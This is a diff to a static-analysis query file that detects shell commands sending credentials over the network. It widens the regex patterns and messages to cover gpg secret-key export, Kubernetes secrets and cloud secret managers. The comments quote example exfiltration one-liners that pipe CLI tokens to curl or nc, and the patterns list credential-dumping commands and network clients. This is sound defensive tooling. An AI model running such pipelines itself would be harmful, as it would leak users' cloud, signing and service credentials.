@@ -363,23 +363,25 @@
 ; gh auth token | curl --data-binary @- u, { gcloud auth print-access-token;
 ; aws configure export-credentials; } | nc h p, curl -d "$(gh auth token)" u:
 ; a token that a command-line tool keeps, printed by the tool and sent out
+; (private keys exported by gpg, kubectl get secrets, a secret manager's
+; value likewise)
 ; as data (in an Authorization header, curl -H "...$(gcloud auth
 ; print-access-token)", or to docker login --password-stdin, it is used as
 ; a token is, and is not reported)
 ((pipeline) @finding
- (#match? @finding "(?<![\\w.-])(gh\\s+auth\\s+token|gcloud\\s+auth\\s+(application-default\\s+)?print-(access|identity)-token|aws\\s+(configure\\s+(export-credentials|get\\s+\\S*(secret|token|key))|sts\\s+get-session-token)|az\\s+account\\s+get-access-token|kubectl\\s+config\\s+view\\s+(.*\\s)?--raw|docker-credential-\\S+\\s+get|vault\\s+print\\s+token|op\\s+read|secret-tool\\s+lookup|pass\\s+show|heroku\\s+auth:token)(?![\\w.:-])")
+ (#match? @finding "(?<![\\w.-])(gh\\s+auth\\s+token|gcloud\\s+auth\\s+(application-default\\s+)?print-(access|identity)-token|aws\\s+(configure\\s+(export-credentials|get\\s+\\S*(secret|token|key))|sts\\s+get-session-token)|az\\s+account\\s+get-access-token|kubectl\\s+config\\s+view\\s+(.*\\s)?--raw|docker-credential-\\S+\\s+get|vault\\s+print\\s+token|op\\s+read|secret-tool\\s+lookup|pass\\s+show|heroku\\s+auth:token|gpg2?\\s+(.*\\s)?--export-secret-(sub)?keys|kubectl\\s+(.*\\s)?get\\s+secrets?|aws\\s+secretsmanager\\s+get-secret-value|aws\\s+ssm\\s+get-parameters?\\s+(.*\\s)?--with-decryption|gcloud\\s+secrets\\s+versions\\s+access|az\\s+keyvault\\s+secret\\s+show|vault\\s+(kv\\s+)?(get|read)|keyctl\\s+(print|pipe|read))(?![\\w.:-])")
  (#contains-call? @finding "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
  (#set! id "sh-credentials")
  (#set! severity "high")
- (#set! message "sends a token that a tool prints (gh auth token, gcloud auth print-access-token, aws configure export-credentials) over the network"))
+ (#set! message "sends a token or secret that a tool prints (gh auth token, gcloud auth print-access-token, gpg --export-secret-keys, kubectl get secrets) over the network"))
 
 ((command argument: (word) @flag . argument: (_) @data) @n @finding
  (#match? @flag "^(-d|--data(-[a-z]+)?|-F|--form|-T|--upload-file|--post-data|--body-data)$")
- (#match? @data "(?<![\\w.-])(gh\\s+auth\\s+token|gcloud\\s+auth\\s+(application-default\\s+)?print-(access|identity)-token|aws\\s+(configure\\s+(export-credentials|get\\s+\\S*(secret|token|key))|sts\\s+get-session-token)|az\\s+account\\s+get-access-token|kubectl\\s+config\\s+view\\s+(.*\\s)?--raw|docker-credential-\\S+\\s+get|vault\\s+print\\s+token|op\\s+read|secret-tool\\s+lookup|pass\\s+show|heroku\\s+auth:token)(?![\\w.:-])")
+ (#match? @data "(?<![\\w.-])(gh\\s+auth\\s+token|gcloud\\s+auth\\s+(application-default\\s+)?print-(access|identity)-token|aws\\s+(configure\\s+(export-credentials|get\\s+\\S*(secret|token|key))|sts\\s+get-session-token)|az\\s+account\\s+get-access-token|kubectl\\s+config\\s+view\\s+(.*\\s)?--raw|docker-credential-\\S+\\s+get|vault\\s+print\\s+token|op\\s+read|secret-tool\\s+lookup|pass\\s+show|heroku\\s+auth:token|gpg2?\\s+(.*\\s)?--export-secret-(sub)?keys|kubectl\\s+(.*\\s)?get\\s+secrets?|aws\\s+secretsmanager\\s+get-secret-value|aws\\s+ssm\\s+get-parameters?\\s+(.*\\s)?--with-decryption|gcloud\\s+secrets\\s+versions\\s+access|az\\s+keyvault\\s+secret\\s+show|vault\\s+(kv\\s+)?(get|read)|keyctl\\s+(print|pipe|read))(?![\\w.:-])")
  (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
  (#set! id "sh-credentials")
  (#set! severity "high")
- (#set! message "sends a token that a tool prints (gh auth token, gcloud auth print-access-token, aws configure export-credentials) over the network"))
+ (#set! message "sends a token or secret that a tool prints (gh auth token, gcloud auth print-access-token, gpg --export-secret-keys, kubectl get secrets) over the network"))
 
 ; A project's .env: a script that sources it (set -a; . ./.env) or names
 ; it in a message configures itself; one that gives it to a network client
